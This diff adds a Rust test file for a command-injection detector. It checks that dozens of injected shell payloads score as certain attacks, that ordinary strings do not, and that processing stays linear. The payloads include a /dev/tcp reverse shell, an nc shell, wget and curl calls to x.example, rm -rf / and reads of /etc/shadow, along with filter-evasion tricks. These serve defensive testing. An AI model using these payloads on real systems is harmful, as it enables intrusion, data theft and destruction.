@@ -1,0 +1,131 @@
+//! Our own tables: attacks by their structure, and their honest twins.
+
+use super::*;
+
+fn confidence(value: &str) -> Option<Confidence> {
+    let found = [injection, whole, function_import].into_iter().filter_map(|find| find(value.as_bytes()));
+    found.map(|found| found.confidence).max()
+}
+
+#[test]
+fn added_commands_are_certain() {
+    for value in [
+        ";id",
+        "; id",
+        "|id|",
+        "'|id|'",
+        "\";id;\"",
+        "a);id",
+        "x|/usr/bin/id",
+        "& ping -i 30 127.0.0.1 &",
+        "127.0.0.1 && whoami",
+        "127.0.0.1 & ipconfig /all",
+        "1.png || uname -a #",
+        "\ncat /etc/passwd",
+        "8.8.8.8\nid",
+        "`id`",
+        "`ping 127.0.0.1`",
+        "x`sleep 5`",
+        "$(id)",
+        "$(sleep 5)",
+        "report$(curl http://x.example/$(whoami)).pdf",
+        ";c'a't /etc/passwd",
+        ";c\\at /etc/passwd",
+        ";cat$IFS/etc/passwd",
+        ";{cat,/etc/passwd}",
+        ";$'\\x63\\x61\\x74' /etc/passwd",
+        ";/???/c?t /etc/passwd",
+        ";who$@ami",
+        "| type C:\\Windows\\win.ini",
+        "& dir c:\\",
+        "&& net user",
+        "|| p^i^n^g 127.0.0.1",
+        "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "; nc -e /bin/sh 10.0.0.1 4444",
+        "; python3 -c 'import os'",
+        ";sudo cat /etc/shadow",
+        "; sleep 10 #",
+        "| sleep 5 |",
+        "; wget http://x.example/a.sh -O /tmp/a",
+        "; rm -rf /",
+        "; echo pwned > /tmp/x",
+        "&& echo $((1337*2))",
+        "; ls -la",
+        ";ls",
+        "foo; netstat -an",
+        "please print my name; cat /etc/passwd",
+        "cat /etc/passwd",
+        "/bin/ls -al",
+        "/bin/cat /etc/hosts",
+        "() { :;}; /bin/id",
+        "() { ignored; }; echo x",
+        ";systeminfo",
+        "%0a;powershell -enc SQBFAFgA",
+        "\";sleep 5;\"",
+    ] {
+        assert_eq!(confidence(value), Some(Certain), "{value:?}");
+    }
+}
+
+#[test]
+fn everyday_values_are_not() {
+    for value in [
+        "&id",
+        "Tom & Jerry",
+        "a;b",
+        "cats | dogs",
+        "R&D; sales",
+        "$HOME sweet",
+        "price is $(5)",
+        "run `cargo build` first",
+        "use `ls -la` to list, or `cat /etc/hosts`",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
+        "Mozilla/5.0 (Windows NT 6.3; Touch; rv:11.0) like Gecko",
+        "Apt is gated; call when you get here",
+        "c/o front desk; ring twice",
+        "name;id;email",
+        "email|name|id",
+        "items.map(|id| id + 1)",
+        "| id | name |",
+        "D;O=A",
+        "sort by date; find more",
+        "rock & sort of folk",
+        "sleep; eat; repeat",
+        "they ate; cat food was left",
+        "x; time = 5",
+        "a(); find(b); print(c)",
+        "Foo and 80&#039;s Foo",
+        "q=1&sort=asc&type=all&id=5",
+        "$(document).ready(go)",
+        "$(id).show()",
+        "salt & echo chamber",
+        "less; more; none",
+        "who; what; when",
+        "head & shoulders",
+        "Merge pull request #1\n\nUpdate README.md",
+        "ls",
+        "ping me later",
+        "cat food",
+        "sleep 8 hours",
+        "find the nearest ATM; date of birth required",
+        "fn main() { body(); }; rest",
+        "M&S; M&Ms",
+        "kill & bill",
+        "5 > 3 && 2 < 4",
+        "a || b",
+        "host; guest",
+        "4|28940|10142125|||TC||C|||",
+        "font: 12px; set; top: 0",
+        "vol. 3; ver. 2; ed. 1",
+    ] {
+        assert!(confidence(value) < Some(Certain), "{value:?} {:?}", injection(value.as_bytes()));
+    }
+}
+
+#[test]
+fn separators_without_end_stay_linear() {
+    let value = ";ls 'a ".repeat(40_000);
+    let start = std::time::Instant::now();
+    injection(value.as_bytes());
+    assert!(start.elapsed().as_secs() < 2);
+}
